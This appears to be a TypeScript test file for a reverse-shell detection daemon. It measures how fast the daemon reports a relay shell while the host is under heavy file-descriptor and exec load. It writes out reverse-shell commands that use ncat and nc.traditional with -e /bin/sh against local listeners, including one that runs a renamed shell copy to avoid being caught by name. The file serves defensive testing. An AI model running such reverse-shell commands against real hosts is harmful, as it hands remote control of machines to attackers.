/**
 * Host reads stay off the event loop (issue 25): a parent holding 19,000 pipe fds runs
 * `cat | sh | cat` relays in a loop, so RELAY-001 looks at its open files for every shell, and
 * a 64 MiB copy of a shell starts again and again with a socket on stdio and a new mtime, so
 * TRC-101 hashes it each time. During each, a real relay shell (`ncat -e /bin/sh`) started in
 * the middle is reported within 1 s, and the daemon's event-loop lag (logged at stop) stays
 * under 50 ms at p99.
 */
import { spawn, type ChildProcess } from "node:child_process";
import { mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { createInterface } from "node:readline";
import { afterEach, describe, expect, it } from "vitest";
import { commandingListener, kernelTier, tcpListener } from "./harness.js";

const tier = kernelTier();
const LOAD_S = 6;

// 9,500 pipes = 19,000 fds, under the host's hard RLIMIT_NOFILE of 20,000.
const FD_HOLDER = `
import os, resource, subprocess, sys, time
resource.setrlimit(resource.RLIMIT_NOFILE, (20000, 20000))
held = [os.pipe() for _ in range(9500)]
print("ready", flush=True)
end = time.time() + float(sys.argv[1])
while time.time() < end:
    a = subprocess.Popen(["cat"], stdin=subprocess.PIPE, stdout=subprocess.PIPE)
    s = subprocess.Popen(["sh"], stdin=a.stdout, stdout=subprocess.PIPE)
    b = subprocess.Popen(["cat"], stdin=s.stdout, stdout=subprocess.DEVNULL)
    a.stdout.close(); s.stdout.close()
    a.stdin.write(b"echo hi\\n"); a.stdin.close()
    a.wait(); s.wait(); b.wait()
`;

// nc.traditional dups the socket itself, then execs the copy: a program no name identifies.
const BIG_EXEC = `
import os, shutil, subprocess, sys, time
path, port = sys.argv[2], sys.argv[3]
shutil.copyfile("/bin/dash", path); os.chmod(path, 0o755)
with open(path, "ab") as f: f.truncate(64 * 1024 * 1024)
print("ready", flush=True)
end = time.time() + float(sys.argv[1])
while time.time() < end:
    os.utime(path, ns=(time.time_ns(), time.time_ns()))
    subprocess.run(["nc.traditional", "127.0.0.1", port, "-e", path])
`;

interface FindingJson {
  rule: { id: string };
  destination?: { port: number };
}


describe.runIf(tier.run)("kernel: host reads stay off the event loop", () => {
  const children: ChildProcess[] = [];
  const dirs: string[] = [];
  afterEach(() => {
    for (const child of children.splice(0)) if (child.exitCode === null && child.signalCode === null) child.kill("SIGKILL");
    for (const dir of dirs.splice(0)) rmSync(dir, { recursive: true, force: true });
  });

  async function underLoad(code: string, args: (dir: string) => Promise<string[]>) {
    const daemon = spawn(process.execPath, ["dist/cli/main.js", "run", "--format", "json"], { stdio: ["ignore", "pipe", "pipe"] });
    children.push(daemon);
    let stderr = "";
    const findings: { receivedMs: number; finding: FindingJson }[] = [];
    createInterface({ input: daemon.stdout }).on("line", (line) => findings.push({ receivedMs: Date.now(), finding: JSON.parse(line) as FindingJson }));
    await new Promise<void>((resolve, reject) => {
      daemon.stderr.on("data", (d: Buffer) => {
        stderr += d.toString();
        if (stderr.includes("sensor ready")) resolve();
      });
      daemon.on("exit", (code) => reject(new Error(`sockeye run exited ${code} before ready: ${stderr}`)));
    });

    const dir = mkdtempSync(join(tmpdir(), "sockeye-lag-"));
    dirs.push(dir);
    const load = spawn("python3", ["-c", code, String(LOAD_S), ...(await args(dir))], { stdio: ["ignore", "pipe", "inherit"] });
    children.push(load);
    await new Promise<void>((resolve) => createInterface({ input: load.stdout }).once("line", () => resolve()));
    const loadEnded = new Promise((resolve) => load.once("exit", resolve));
    await new Promise((resolve) => setTimeout(resolve, (LOAD_S * 1000) / 2));

    const listener = await commandingListener("127.0.0.1");
    const shellStartedMs = Date.now();
    const shell = spawn("timeout", ["-s", "KILL", "5", "ncat", "127.0.0.1", String(listener.port), "-e", "/bin/sh"], { stdio: "ignore" });
    children.push(shell);
    const answered = await listener.answered;
    await loadEnded;
    await new Promise((resolve) => setTimeout(resolve, 500));
    daemon.kill("SIGTERM");
    await new Promise((resolve) => daemon.once("exit", resolve));
    await listener.close();

    const stopped = stderr.split("\n").filter((l) => l.includes('"stopped"')).map((l) => JSON.parse(l) as { eventLoopLagMs: { p50: number; p99: number; max: number } })[0];
    const relay = findings.find(({ finding }) => finding.rule.id === "RELAY-001" && finding.destination?.port === listener.port);
    const delayMs = relay !== undefined ? relay.receivedMs - shellStartedMs : undefined;
    console.log(JSON.stringify({ shellDelayMs: delayMs, eventLoopLagMs: stopped?.eventLoopLagMs }));
    expect(answered, "the shell answered the listener's command").toBe(true);
    expect(relay, "the relay shell's RELAY-001 finding").toBeDefined();
    expect(delayMs).toBeLessThan(1000);
    expect(stopped, "the daemon's stopped line").toBeDefined();
    expect(stopped!.eventLoopLagMs.p99).toBeLessThan(50);
  }

  it("a parent holding 19,000 pipe fds runs cat | sh | cat relays: the relay shell in the middle reported within 1 s, lag p99 under 50 ms", async () => {
    await underLoad(FD_HOLDER, () => Promise.resolve([]));
  }, 60_000);

  it("a 64 MiB shell copy exec'd with a socket on stdio and new mtimes: the relay shell in the middle reported within 1 s, lag p99 under 50 ms", async () => {
    const sink = await tcpListener("127.0.0.1", "exit\n");
    try {
      await underLoad(BIG_EXEC, (dir) => Promise.resolve([join(dir, "padded"), String(sink.port)]));
    } finally {
      await sink.close();
    }
  }, 60_000);
});
